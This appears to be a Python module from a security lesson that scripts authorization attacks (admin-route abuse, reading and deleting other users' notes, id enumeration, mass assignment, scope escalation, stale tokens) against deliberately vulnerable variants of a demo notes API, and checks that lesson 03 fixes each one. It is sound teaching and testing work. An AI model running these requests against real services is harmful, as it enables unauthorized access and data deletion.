"""Lesson 03: attacks on authorization, made by callers whose tokens are perfectly valid.

mallory has an ordinary account and logs in honestly. Everything below is what she can do
with that token when the service checks *who* she is but not *what she may do*:

1. Function level (API5:2023): list every account and delete one through the admin routes.
2. Object level (API1:2023): read and delete alice's note by its id, and tell the ids of
   other people's notes from ids that do not exist (enumeration).
3. Property level, mass assignment (API3:2023): register a new account with
   ``"role": "admin"`` in the body.
4. Scope escalation: ask the token endpoint for the ``users:admin`` scope.

And two that an admin's tokens make possible:

5. A demoted admin: ada is an admin no more, but the token she already holds still says
   ``users:admin``; a scope check that trusts the token alone lets her in until it expires.
6. A narrowed token: ada asks for a ``notes:read`` token (for a backup script, say); a check
   that takes the scopes from her role instead (the errata's mix-up) lets whoever holds that
   token delete accounts.

Each ``run_*`` function sends real requests and judges the result; ``ATTACKS`` runs each on a
``Scene`` of the variant it was made for.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Sequence

import httpx2
from jose import jwt

from lessons import access, schemas
from lessons.access import NOTES_READ, USERS_ADMIN
from lessons.attacks import (
    ADMIN,
    ATTACKER,
    LEAVER,
    VICTIM,
    Account,
    Attack,
    AttackResult,
    Scene,
    SceneError,
    Variant,
    bearer,
    new_password,
)

# Ids no note will have in a small demo database: the attacker's "surely missing" probes.
MISSING_IDS = (9001, 9002)


def request_token(client: httpx2.Client, username: str, password: str,
                  scopes: Iterable[str] = ()) -> httpx2.Response:
    """The OAuth2 password flow: a form with ``scope`` as one space-separated string."""
    form = {"username": username, "password": password, "scope": " ".join(scopes)}
    return client.post("/auth/token", data=form)


def login(client: httpx2.Client, account: Account, scopes: Iterable[str] = ()) -> str:
    """An access token for ``account``; the scene needs one, so failing here is an error."""
    response = request_token(client, account.username, account.password, scopes)
    if response.status_code != 200:
        raise SceneError(f"{account.username} could not log in: HTTP {response.status_code}")
    return str(response.json()["access_token"])


def scopes_in(token: str) -> list[str]:
    """The scopes a JWT carries. Its payload is only base64: anyone holding it can read it."""
    return sorted(str(jwt.get_unverified_claims(token).get("scope", "")).split())


# -- 1. function level ------------------------------------------------------------------------


def list_users(client: httpx2.Client, token: str) -> httpx2.Response:
    return client.get("/admin/users", headers=bearer(token))


def delete_user(client: httpx2.Client, token: str, username: str) -> httpx2.Response:
    return client.delete(f"/admin/users/{username}", headers=bearer(token))


def run_list_users(client: httpx2.Client, token: str, who: str = ATTACKER) -> AttackResult:
    response = list_users(client, token)
    body = response.json() if response.status_code == 200 else []
    names = [user.get("username") for user in body if isinstance(user, dict)] \
        if isinstance(body, list) else []
    return AttackResult(
        name=f"{who} lists every account through GET /admin/users",
        succeeded=response.status_code == 200,
        evidence=f"HTTP {response.status_code}"
        + (f", accounts: {', '.join(map(str, names))}" if names else ""),
    )


def run_delete_user(client: httpx2.Client, token: str, username: str,
                    who: str = ATTACKER) -> AttackResult:
    response = delete_user(client, token, username)
    return AttackResult(
        name=f"{who} deletes the account {username!r} through DELETE /admin/users",
        succeeded=response.status_code == 204,
        evidence=f"HTTP {response.status_code}",
    )


# -- 2. object level --------------------------------------------------------------------------


def read_note(client: httpx2.Client, token: str, note_id: int) -> httpx2.Response:
    return client.get(f"/notes/{note_id}", headers=bearer(token))


def delete_note(client: httpx2.Client, token: str, note_id: int) -> httpx2.Response:
    return client.delete(f"/notes/{note_id}", headers=bearer(token))


def run_read_note(client: httpx2.Client, token: str, note_id: int, owner: str) -> AttackResult:
    response = read_note(client, token, note_id)
    body = response.json() if response.status_code == 200 else {}
    body = body if isinstance(body, dict) else {}
    return AttackResult(
        name=f"{ATTACKER} reads note {note_id}, which belongs to {owner}",
        succeeded=body.get("owner") == owner,
        evidence=f"HTTP {response.status_code}"
        + (f", body {body.get('body')!r}" if body else ""),
    )


def run_delete_note(client: httpx2.Client, token: str, note_id: int, owner: str) -> AttackResult:
    response = delete_note(client, token, note_id)
    return AttackResult(
        name=f"{ATTACKER} deletes note {note_id}, which belongs to {owner}",
        succeeded=response.status_code == 204,
        evidence=f"HTTP {response.status_code}",
    )


def probe_notes(client: httpx2.Client, token: str,
                note_ids: Iterable[int]) -> dict[int, tuple[int, bytes]]:
    """What the service answers (status and exact body) for each note id."""
    answers = {}
    for note_id in note_ids:
        response = read_note(client, token, note_id)
        answers[note_id] = (response.status_code, response.content)
    return answers


def run_enumerate_notes(client: httpx2.Client, token: str, others_ids: Sequence[int],
                        missing_ids: Sequence[int] = MISSING_IDS) -> AttackResult:
    """Succeeds when any answer for someone else's note differs from the answer for a note
    that does not exist: then every id can be sorted into "exists" and "does not".

    ``others_ids`` (notes that exist but are not the attacker's) only judges the result; the
    attacker just tries ids one after another.
    """
    answers = probe_notes(client, token, [*others_ids, *missing_ids])
    missing = {answers[note_id] for note_id in missing_ids}
    telling = [note_id for note_id in others_ids if answers[note_id] not in missing]
    shown = ", ".join(f"{note_id} -> {answers[note_id][0]}" for note_id in answers)
    return AttackResult(
        name=f"{ATTACKER} tells other people's note ids from ids that do not exist",
        succeeded=bool(telling),
        evidence=(f"{len(telling)} of {len(others_ids)} existing notes answer differently "
                  f"from a missing one ({shown})"),
    )


# -- 3. mass assignment -----------------------------------------------------------------------


def register_as_admin(client: httpx2.Client, username: str, password: str) -> httpx2.Response:
    return client.post("/users", json={"username": username, "email": f"{username}@example.org",
                                       "password": password, "role": "admin"})


def run_register_as_admin(client: httpx2.Client, username: str = "eve",
                          password: str | None = None) -> AttackResult:
    response = register_as_admin(client, username, password or new_password())
    body = response.json() if response.status_code == 201 else {}
    role = body.get("role") if isinstance(body, dict) else None
    return AttackResult(
        name=f'register {username!r} with "role": "admin" in the body',
        succeeded=role == "admin",
        evidence=f"HTTP {response.status_code}" + (f", role {role!r}" if role else ""),
    )


# -- 4. scope escalation ----------------------------------------------------------------------


def run_request_scope(client: httpx2.Client, account: Account,
                      scope: str = USERS_ADMIN) -> AttackResult:
    response = request_token(client, account.username, account.password, [scope])
    granted = scopes_in(response.json()["access_token"]) if response.status_code == 200 else []
    return AttackResult(
        name=f"{account.username} (role {account.role!r}) asks for a token with {scope}",
        succeeded=scope in granted,
        evidence=f"HTTP {response.status_code}, the token carries: "
        + (" ".join(granted) or "no scopes"),
    )


# -- 5. a demoted admin -----------------------------------------------------------------------


def run_demoted_admin(client: httpx2.Client, token: str, demote: Callable[[], object],
                      who: str = ADMIN) -> AttackResult:
    """``token`` is the admin's, with ``users:admin``; ``demote()`` takes her role away (an
    operator's change in the database). Does the token still open the admin routes?"""
    before = list_users(client, token).status_code
    if before != 200:
        raise SceneError(f"{who}'s admin token got HTTP {before} before the demotion")
    demote()
    result = run_list_users(client, token, who)
    return AttackResult(name=f"{who}, demoted to user, lists every account with her old token",
                        succeeded=result.succeeded, evidence=result.evidence)


# -- the lesson's attacks, each on a scene of its own ----------------------------------------------


def _attacker(scene: Scene) -> str:
    return scene.token(ATTACKER)


def _list_users(scene: Scene) -> AttackResult:
    return run_list_users(scene.client, _attacker(scene))


def _delete_user(scene: Scene) -> AttackResult:
    result = run_delete_user(scene.client, _attacker(scene), LEAVER)
    gone = scene.store.get_user(LEAVER) is None
    return AttackResult(result.name, gone, result.evidence)  # what the database says


def _read_note(scene: Scene) -> AttackResult:
    note = scene.accounts[VICTIM].notes[0]
    return run_read_note(scene.client, _attacker(scene), note.id, VICTIM)


def _delete_note(scene: Scene) -> AttackResult:
    note = scene.accounts[VICTIM].notes[0]
    result = run_delete_note(scene.client, _attacker(scene), note.id, VICTIM)
    gone = scene.store.get_note(note.id) is None
    return AttackResult(result.name, gone, result.evidence)


def _enumerate_notes(scene: Scene) -> AttackResult:
    others = [scene.accounts[name].notes[0].id for name in (VICTIM, LEAVER, ADMIN)]
    return run_enumerate_notes(scene.client, _attacker(scene), others)


def _register_as_admin(scene: Scene) -> AttackResult:
    result = run_register_as_admin(scene.client, "eve")
    stored = scene.store.get_user("eve")
    return AttackResult(result.name, stored is not None and stored.role == "admin",
                        result.evidence)


def _request_scope(scene: Scene) -> AttackResult:
    return run_request_scope(scene.client, scene.accounts[ATTACKER])


def _demoted_admin(scene: Scene) -> AttackResult:
    token = scene.token(ADMIN, [USERS_ADMIN])
    return run_demoted_admin(scene.client, token, lambda: scene.store.set_role(ADMIN, "user"))


def _narrowed_token(scene: Scene) -> AttackResult:
    backup = scene.token(ADMIN, [NOTES_READ])
    if scopes_in(backup) != [NOTES_READ]:
        raise SceneError(f"ada asked for notes:read only and got {scopes_in(backup)}")
    result = run_delete_user(scene.client, backup, LEAVER, who=f"{ADMIN}'s notes:read token")
    return AttackResult(result.name, scene.store.get_user(LEAVER) is None, result.evidence)


def reference_with(**seams: object) -> Variant:
    """The reference after lesson 03 with some seams replaced by vulnerable implementations."""
    names = ", ".join(getattr(seam, "__name__", str(seam)) for seam in seams.values())
    return Variant(upto=3, seams=seams, label=f"lesson 03 with {names}")


NO_SCOPE_CHECK = reference_with(check_scopes=access.allow_any)
ANY_NOTE = reference_with(find_note=access.any_note)
NOTE_OR_403 = reference_with(find_note=access.owned_note_or_403)
STORED_USER_MODEL = reference_with(user_model=schemas.UserRecord)
GRANT_REQUESTED = reference_with(grant_scopes=access.grant_requested)
TOKEN_SCOPES_ONLY = reference_with(check_scopes=access.check_token_scopes)
ROLE_AS_SCOPES = reference_with(check_scopes=access.role_as_scopes)

ATTACKS: tuple[Attack, ...] = (
    Attack("list_users", f"{ATTACKER} lists every account (API5)", _list_users,
           NO_SCOPE_CHECK, fixed_in=3),
    Attack("delete_user", f"{ATTACKER} deletes {LEAVER}'s account (API5)", _delete_user,
           NO_SCOPE_CHECK, fixed_in=3),
    Attack("read_note", f"{ATTACKER} reads {VICTIM}'s note by its id (API1)", _read_note,
           ANY_NOTE, fixed_in=3),
    Attack("delete_note", f"{ATTACKER} deletes {VICTIM}'s note by its id (API1)", _delete_note,
           ANY_NOTE, fixed_in=3),
    Attack("enumerate_notes", f"{ATTACKER} tells others' note ids from missing ones (API1)",
           _enumerate_notes, NOTE_OR_403, fixed_in=3),
    Attack("register_as_admin", 'register with "role": "admin" in the body (API3)',
           _register_as_admin, STORED_USER_MODEL, fixed_in=3),
    Attack("request_scope", f"{ATTACKER} asks for a token with users:admin", _request_scope,
           GRANT_REQUESTED, fixed_in=3),
    Attack("demoted_admin", f"{ADMIN}, demoted, keeps admin access with her old token",
           _demoted_admin, TOKEN_SCOPES_ONLY, fixed_in=3),
    Attack("narrowed_token", f"{ADMIN}'s notes:read token deletes an account", _narrowed_token,
           ROLE_AS_SCOPES, fixed_in=3),
)
